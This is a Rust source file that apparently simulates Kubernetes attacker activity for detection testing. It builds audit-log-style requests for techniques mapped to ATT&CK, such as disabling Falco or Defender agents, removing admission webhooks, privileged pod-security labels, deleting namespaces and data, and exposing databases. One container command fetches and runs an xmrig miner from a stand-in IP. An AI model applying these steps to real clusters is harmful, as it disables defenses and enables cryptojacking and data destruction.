//! Hiding, and damage.

use serde_json::json;

use super::super::super::event::Target;
use super::super::Stage;
use super::workload::{plant, plant_in};
use super::{ANYONE, Ground, Technique, Who};

pub(in super::super) const EVASION: &[Technique] = &[
    Technique {
        name: "Delete events (T1070)",
        run: events,
        by: ANYONE,
    },
    Technique {
        name: "Switch off monitoring (T1562.001)",
        run: monitoring,
        by: ANYONE,
    },
    Technique {
        name: "Remove admission control (T1562.001)",
        run: admission,
        by: ANYONE,
    },
    Technique {
        name: "Open the network (T1562.007)",
        run: network,
        by: ANYONE,
    },
    Technique {
        name: "Weaken pod security (T1562.001)",
        run: pod_security,
        by: ANYONE,
    },
    Technique {
        name: "Hide among the system's pods (T1036.005)",
        run: system_pod,
        by: ANYONE,
    },
];

pub(in super::super) const TECHNIQUES: &[Technique] = &[
    Technique {
        name: "Mine (T1496)",
        run: mine,
        by: ANYONE,
    },
    Technique {
        name: "Destroy data (T1485)",
        run: destroy,
        by: ANYONE,
    },
    Technique {
        name: "Delete namespaces (T1485)",
        run: namespaces,
        by: &[Who::Person, Who::LocalAdmin, Who::Account],
    },
    Technique {
        name: "Expose a data store (T1133)",
        run: expose,
        by: ANYONE,
    },
];

fn events(s: &mut Stage<'_>, g: &mut Ground) {
    let (ns, _, pod) = s.victim();
    let event = match s.rng.below(2) {
        0 => g.client.request(
            s.rng,
            s.now(),
            "deletecollection",
            Target::core("events").ns(&ns),
        ),
        _ => {
            let name = format!("{pod}.17d2a");
            g.client.request(
                s.rng,
                s.now(),
                "delete",
                Target::of("events.k8s.io", "v1", "events")
                    .ns(&ns)
                    .name(&name),
            )
        }
    };
    s.strike("deletes events", event);
}

fn monitoring(s: &mut Stage<'_>, g: &mut Ground) {
    let (ns, name) = *s.rng.pick(&[
        ("kube-system", "ama-logs"),
        ("kube-system", "microsoft-defender-collector-ds"),
        ("falco", "falco"),
    ]);
    let target = Target::of("apps", "v1", "daemonsets").ns(ns).name(name);
    let event = match s.rng.below(2) {
        0 => g.client.request(s.rng, s.now(), "delete", target).sends("{\"kind\":\"DeleteOptions\",\"apiVersion\":\"v1\"}"),
        _ => g
            .client
            .request(s.rng, s.now(), "patch", target)
            .sends("{\"spec\":{\"template\":{\"spec\":{\"nodeSelector\":{\"none\":\"here\"}}}}}")
            .gets(json!({"kind": "DaemonSet", "apiVersion": "apps/v1", "metadata": {"name": name, "namespace": ns},
                "spec": {"template": {"spec": {"nodeSelector": {"none": "here"}, "containers": []}}}}).to_string()),
    };
    s.strike("switches an agent off", event);
}

fn admission(s: &mut Stage<'_>, g: &mut Ground) {
    let webhooks = Target::of(
        "admissionregistration.k8s.io",
        "v1",
        "validatingwebhookconfigurations",
    );
    let event = match s.rng.below(3) {
        0 => g.client.request(
            s.rng,
            s.now(),
            "delete",
            webhooks.name("gatekeeper-validating-webhook-configuration"),
        ),
        1 => {
            let object = json!({"kind": "ValidatingWebhookConfiguration", "apiVersion": "admissionregistration.k8s.io/v1",
                "metadata": {"name": "kyverno-resource-validating-webhook-cfg"},
                "webhooks": [{"name": "validate.kyverno.svc-fail", "failurePolicy": "Ignore", "sideEffects": "None",
                    "clientConfig": {"service": {"namespace": "kyverno", "name": "kyverno-svc"}},
                    "namespaceSelector": {"matchExpressions": [{"key": "kubernetes.io/metadata.name", "operator": "NotIn", "values": ["payments"]}]}}]});
            g.client
                .request(s.rng, s.now(), "patch", webhooks.name("kyverno-resource-validating-webhook-cfg"))
                .sends(json!([{"op": "replace", "path": "/webhooks/0/failurePolicy", "value": "Ignore"}]).to_string())
                .gets(object.to_string())
        }
        _ => {
            let constraint = Target::of(
                "constraints.gatekeeper.sh",
                "v1beta1",
                "k8sazurev2noprivilege",
            );
            g.client.request(
                s.rng,
                s.now(),
                "delete",
                constraint.name("azurepolicy-k8sazurev2noprivilege-2e8f"),
            )
        }
    };
    s.strike("removes an admission control", event);
}

fn network(s: &mut Stage<'_>, g: &mut Ground) {
    let (ns, _, _) = s.victim();
    let target = Target::of("networking.k8s.io", "v1", "networkpolicies")
        .ns(&ns)
        .name("default-deny");
    let event = match s.rng.below(2) {
        0 => g.client.request(s.rng, s.now(), "delete", target),
        _ => g
            .client
            .request(s.rng, s.now(), "patch", target)
            .sends("{\"spec\":{\"ingress\":[{}],\"egress\":[{}]}}")
            .gets(json!({"kind": "NetworkPolicy", "apiVersion": "networking.k8s.io/v1", "metadata": {"name": "default-deny", "namespace": ns},
                "spec": {"podSelector": {}, "policyTypes": ["Ingress", "Egress"], "ingress": [{}], "egress": [{}]}}).to_string()),
    };
    s.strike("opens the network", event);
}

fn pod_security(s: &mut Stage<'_>, g: &mut Ground) {
    let (ns, _, _) = s.victim();
    let object = json!({"kind": "Namespace", "apiVersion": "v1", "metadata": {"name": ns, "labels": {"kubernetes.io/metadata.name": ns,
        "pod-security.kubernetes.io/enforce": "privileged"}}, "spec": {"finalizers": ["kubernetes"]}});
    let event = g
        .client
        .request(
            s.rng,
            s.now(),
            "patch",
            Target::core("namespaces").name(&ns),
        )
        .query("fieldManager=kubectl-label")
        .sends(
            "{\"metadata\":{\"labels\":{\"pod-security.kubernetes.io/enforce\":\"privileged\"}}}",
        )
        .gets(object.to_string());
    s.strike("lets a namespace run anything", event);
}

fn system_pod(s: &mut Stage<'_>, g: &mut Ground) {
    let spec = json!({"containers": [{"name": "kube-proxy", "image": "docker.io/library/alpine:3.21", "command": ["sleep", "1d"]}]});
    plant_in(
        s,
        g,
        Some("kube-system"),
        "runs a pod among the system's",
        spec,
    );
}

fn mine(s: &mut Stage<'_>, g: &mut Ground) {
    let container = match s.rng.below(3) {
        0 => {
            json!({"name": "main", "image": "docker.io/metal3d/xmrig:latest", "args": ["-o", "pool.supportxmr.com:443"]})
        }
        1 => {
            json!({"name": "main", "image": "docker.io/library/alpine:3.21", "command": ["sh", "-c", "wget -qO /tmp/w https://198.51.100.77/xmrig && chmod +x /tmp/w && /tmp/w --donate-level 1 -o stratum+tcp://198.51.100.77:3333"]})
        }
        _ => json!({"name": "main", "image": "docker.io/kannix/monero-miner"}),
    };
    plant(s, g, "runs a miner", json!({"containers": [container]}));
}

fn destroy(s: &mut Stage<'_>, g: &mut Ground) {
    let targets: Vec<(String, String)> = s
        .world
        .apps
        .iter()
        .map(|app| (app.namespace.clone(), app.name.clone()))
        .collect();
    let pace = s.pace;
    s.pace = pace.min(0.1);
    for (ns, name) in targets {
        for target in [
            Target::of("apps", "v1", "deployments").ns(&ns).name(&name),
            Target::core("persistentvolumeclaims")
                .ns(&ns)
                .name(&format!("data-{name}-0")),
        ] {
            let event = g.client.request(s.rng, s.now(), "delete", target);
            s.strike("deletes what is there", event);
        }
    }
    s.pace = pace;
}

fn namespaces(s: &mut Stage<'_>, g: &mut Ground) {
    for _ in 0..2 {
        let (ns, _, _) = s.victim();
        let event = g.client.request(
            s.rng,
            s.now(),
            "delete",
            Target::core("namespaces").name(&ns),
        );
        s.strike("deletes a namespace", event);
    }
}

fn expose(s: &mut Stage<'_>, g: &mut Ground) {
    let (ns, _, _) = s.victim();
    let name = *s
        .rng
        .pick(&["postgres", "redis-master", "mongo", "elasticsearch"]);
    let revision = s.world.revise();
    let object = super::super::super::body::service(&ns, name, "LoadBalancer", json!({}), revision);
    let event = g
        .client
        .request(
            s.rng,
            s.now(),
            "patch",
            Target::core("services").ns(&ns).name(name),
        )
        .sends("{\"spec\":{\"type\":\"LoadBalancer\"}}")
        .gets(object.to_string());
    s.strike("puts a data store on the internet", event);
}
